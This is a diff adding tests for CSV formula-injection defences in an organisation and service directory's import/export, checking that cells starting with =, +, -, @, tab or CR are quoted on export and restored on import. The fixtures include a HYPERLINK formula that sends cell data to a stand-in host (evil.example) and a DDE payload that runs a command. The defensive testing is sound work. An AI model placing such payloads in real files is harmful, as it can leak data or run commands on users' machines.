@@ -1,4 +1,6 @@
+import { parse } from 'csv-parse/sync';
 import { TEST_PASSWORD, type TestApp, createTestUsers, dataOf, startTestApp } from '../../test/app';
+import { neutraliseFormulaCell, restoreFormulaCell } from './csv.cells';
 
 /** `count` rows of population figures for Schuilenburg, unique by (year, source). */
 function keyFigureFile(count: number, options: { source?: string; separator?: string; value?: (i: number) => string } = {}): string {
@@ -342,6 +344,88 @@ describe('CSV import and export', () => {
         [8, 'status'],
       ]);
       expect(await count(`SELECT count(*) AS n FROM service`)).toBe(before);
+    });
+  });
+
+  describe('formula injection (OWASP CSV injection)', () => {
+    /** The cells of an export by column, for the row whose `key` column is `value`. */
+    const rowOf = (csv: string, key: string, value: string, delimiter = ',') => {
+      const [header, ...rows] = parse(csv, { delimiter, bom: true }) as string[][];
+      const row = rows.find((cells) => cells[header.indexOf(key)] === value);
+      if (!row) throw new Error(`no row with ${key} = ${value}`);
+      return Object.fromEntries(header.map((column, c) => [column, row[c]]));
+    };
+
+    it('quotes exactly the text that starts with = + - @ tab or CR (also after quotes), and reading takes that one quote off', () => {
+      const values = ['=1+1', '+31 33', '-', '@SUM(A1)', '\tx', '\r=x', "'=x", "''@x", "'", "'x", "x'=", '', 'Buurtkoepel', '3', ' =x'];
+      expect(values.map(neutraliseFormulaCell)).toEqual(["'=1+1", "'+31 33", "'-", "'@SUM(A1)", "'\tx", "'\r=x", "''=x", "'''@x", "'", "'x", "x'=", '', 'Buurtkoepel', '3', ' =x']);
+      for (const value of values) expect(restoreFormulaCell(neutraliseFormulaCell(value))).toBe(value);
+    });
+
+    it('key figures: source and note are neutralised, a negative value stays a number, and export → import keeps the values', async () => {
+      const indicator = { code: 'saldo_verhuizingen', nameNl: 'Saldo verhuizingen', nameEn: 'Net migration', unit: 'NUMBER' };
+      const { code } = dataOf(await t.gql(`mutation($input: CreateIndicatorInput!) { createIndicator(input: $input) { code } }`, { input: indicator }, { cookie: admin })).createIndicator;
+      const source = '=HYPERLINK("https://evil.example/?d="&A1,"Bron")';
+      const file = `area_code,indicator_code,year,value,source,note\r\nschuilenburg,${code},2021,-3.5,"${source.replace(/"/g, '""')}",@SUM(1+1)\r\n`;
+      expect(await post('/csv/key-figures', file, as(admin))).toMatchObject({ status: 200, body: { created: 1 } });
+      const stored = async () => (await t.db.dataSource.query(`SELECT value, source, note FROM key_figure WHERE source LIKE '=HYPERLINK%'`)) as unknown[];
+      expect(await stored()).toEqual([{ value: '-3.500', source, note: '@SUM(1+1)' }]);
+      for (const [separator, delimiter, value] of [['comma', ',', '-3.5'], ['semicolon', ';', '-3,5']]) {
+        const exported = await get(`/csv/key-figures?area=schuilenburg&indicator=${code}&year=2021&separator=${separator}`);
+        expect(rowOf(exported.text, 'year', '2021', delimiter)).toEqual({ area_code: 'schuilenburg', indicator_code: code, year: '2021', value, source: `'${source}`, note: "'@SUM(1+1)" });
+        expect(await post('/csv/key-figures', exported.text, as(admin))).toMatchObject({ status: 200, body: { created: 0, updated: 0, unchanged: 1, errors: [] } });
+      }
+      expect(await stored()).toEqual([{ value: '-3.500', source, note: '@SUM(1+1)' }]);
+    });
+
+    it('organisations: every text column is neutralised, lists included, and export → import leaves every row unchanged', async () => {
+      const values = {
+        name: '=HYPERLINK("https://evil.example","Welzijn")',
+        phone: '+31 33 123 4567',
+        description: "=cmd|' /C calc'!A0",
+        abbreviation: '-SWA-',
+        subsector: "'=al geciteerd",
+        aliases: ['@swa', 'Welzijn'],
+      };
+      await t.db.dataSource.query(
+        `UPDATE organisation SET name = $1, phone = $2, description = $3, abbreviation = $4, subsector = $5, aliases = $6 WHERE slug = 'swa'`,
+        [values.name, values.phone, values.description, values.abbreviation, values.subsector, values.aliases],
+      );
+      const exported = await get('/csv/organisations');
+      expect(rowOf(exported.text, 'slug', 'swa')).toMatchObject({
+        name: `'${values.name}`,
+        phone: `'${values.phone}`,
+        description: `'${values.description}`,
+        abbreviation: "'-SWA-",
+        subsector: "''=al geciteerd",
+        aliases: "'@swa|Welzijn",
+        sector: 'WELFARE',
+      });
+      const history = await count(`SELECT count(*) AS n FROM change_record`);
+      const res = await post('/csv/organisations', exported.text, as(admin));
+      expect(res).toMatchObject({ status: 200, body: { created: 0, updated: 0, errors: [] } });
+      expect(res.body.unchanged).toBe(exported.text.trim().split('\r\n').length - 1);
+      expect(await count(`SELECT count(*) AS n FROM change_record`)).toBe(history);
+      const [after] = await t.db.dataSource.query(`SELECT name, phone, description, abbreviation, subsector, aliases FROM organisation WHERE slug = 'swa'`);
+      expect(after).toEqual(values);
+    });
+
+    it('services: text columns are neutralised, the age columns are numbers and left alone, and export → import keeps the values', async () => {
+      const [{ slug }] = await t.db.dataSource.query(`SELECT slug FROM service WHERE archived_at IS NULL ORDER BY slug LIMIT 1`);
+      const values = { name: '+Gratis meedoen', cost: '=2+5', eligibility: '@iedereen', frequency: '-1 keer per week', languages: ['-nl', 'en'], min_age: 12 };
+      await t.db.dataSource.query(`UPDATE service SET name = $1, cost = $2, eligibility = $3, frequency = $4, languages = $5, min_age = $6, max_age = NULL WHERE slug = $7`, [
+        values.name, values.cost, values.eligibility, values.frequency, values.languages, values.min_age, slug,
+      ]);
+      for (const [separator, delimiter] of [['comma', ','], ['semicolon', ';']]) {
+        const exported = await get(`/csv/services?separator=${separator}`);
+        expect(rowOf(exported.text, 'slug', slug, delimiter)).toMatchObject({
+          name: "'+Gratis meedoen", cost: "'=2+5", eligibility: "'@iedereen", frequency: "'-1 keer per week", languages: "'-nl|en", min_age: '12', max_age: '',
+        });
+        const res = await post('/csv/services', exported.text, as(admin));
+        expect(res).toMatchObject({ status: 200, body: { created: 0, updated: 0, errors: [] } });
+      }
+      const [after] = await t.db.dataSource.query(`SELECT name, cost, eligibility, frequency, languages, min_age FROM service WHERE slug = $1`, [slug]);
+      expect(after).toEqual(values);
     });
   });
 });
